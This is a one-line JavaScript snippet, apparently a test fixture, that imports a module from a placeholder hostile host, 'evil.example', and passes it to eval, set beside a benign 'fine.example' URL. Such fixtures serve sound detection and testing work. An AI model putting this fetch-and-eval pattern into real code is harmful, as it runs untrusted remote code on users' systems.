import x from "https://evil.example/x.js"; eval(x); const fine = "https://fine.example/";
